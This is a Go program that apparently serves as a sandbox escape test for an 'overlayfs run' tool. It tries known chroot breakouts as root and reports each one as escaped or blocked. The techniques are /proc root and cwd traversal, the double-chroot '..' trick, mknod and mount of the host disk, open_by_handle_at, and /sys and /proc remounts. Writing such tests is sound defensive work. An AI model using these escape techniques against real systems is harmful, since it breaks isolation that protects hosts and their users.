// Command hostile tries, from inside `overlayfs run` as root, the known ways
// out of a chroot-like sandbox, aimed at the host directory named by its
// first argument. It prints "ESCAPED: how" for each that worked and
// "blocked: how: why" for each that did not. It never writes to a device.
// The second and third arguments are the major and minor numbers of the
// host file system's device (0 0 if it has none).
package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

func main() {
	target := os.Args[1]
	major, _ := strconv.Atoi(os.Args[2])
	minor, _ := strconv.Atoi(os.Args[3])
	report := func(how string, err error) {
		if err == nil {
			fmt.Printf("ESCAPED: %s\n", how)
		} else {
			fmt.Printf("blocked: %s: %v\n", how, err)
		}
	}
	tryWrite := func(dir string) error {
		return os.WriteFile(filepath.Join(dir, "escaped"), []byte("x"), 0o644)
	}
	// 1. Another process's root or cwd in /proc.
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		if _, err := strconv.Atoi(e.Name()); err != nil {
			continue
		}
		for _, l := range []string{"root", "cwd"} {
			p := "/proc/" + e.Name() + "/" + l
			report("write through "+p, tryWrite(p+target))
		}
	}
	// 2. A second chroot, then ".." past it.
	err := func() error {
		if err := os.MkdirAll("/jail", 0o755); err != nil {
			return err
		}
		if err := unix.Chroot("/jail"); err != nil {
			return err
		}
		for i := 0; i < 64; i++ {
			if err := unix.Chdir(".."); err != nil {
				return err
			}
		}
		if err := unix.Chroot("."); err != nil {
			return err
		}
		if _, err := os.Stat(target); err != nil {
			return err
		}
		return tryWrite(target)
	}()
	report("chroot and cd ..", err)
	// 3. The host's disk: mknod it, read it, mount it.
	if major != 0 || minor != 0 {
		err = unix.Mknod("/tmp/disk", unix.S_IFBLK|0o600, int(unix.Mkdev(uint32(major), uint32(minor))))
		if err == nil {
			f, oerr := os.Open("/tmp/disk") // read only: never write a disk
			if oerr == nil {
				f.Close()
			}
			err = oerr
		}
		report("mknod and open the host's disk", err)
		_ = os.MkdirAll("/tmp/m", 0o755)
		for _, fs := range []string{"ext4", "xfs", "btrfs"} {
			report("mount the host's disk as "+fs, unix.Mount("/tmp/disk", "/tmp/m", fs, unix.MS_RDONLY, ""))
		}
	}
	// 4. open_by_handle_at on a host file system mounted in the sandbox.
	for _, p := range []string{"/dev/null", "/proc/self", "/sys/kernel"} {
		h, mid, err := unix.NameToHandleAt(unix.AT_FDCWD, p, 0)
		if err == nil {
			var mfd int
			mfd, err = unix.Open(filepath.Dir(p), unix.O_RDONLY|unix.O_DIRECTORY, 0)
			if err == nil {
				var fd int
				fd, err = unix.OpenByHandleAt(mfd, h, unix.O_RDONLY)
				if err == nil {
					unix.Close(fd)
				}
				unix.Close(mfd)
			}
		}
		_ = mid
		report("open_by_handle_at "+p, err)
	}
	// 5. /sys read-write.
	report("remount /sys read-write", unix.Mount("", "/sys", "", unix.MS_REMOUNT|unix.MS_BIND, ""))
	report("mount a new sysfs", unix.Mount("sysfs", "/tmp/m", "sysfs", 0, ""))
	report("write access to /sys", unix.Access("/sys/kernel", unix.W_OK))
	// 6. Unmount the sandbox's /proc to find the host's below it.
	report("unmount /proc", unix.Unmount("/proc", unix.MNT_DETACH))
	mi, _ := os.ReadFile("/proc/self/mountinfo")
	for _, l := range strings.Split(string(mi), "\n") {
		if strings.Contains(l, target) {
			fmt.Printf("ESCAPED: mountinfo shows %s\n", l)
		}
	}
}
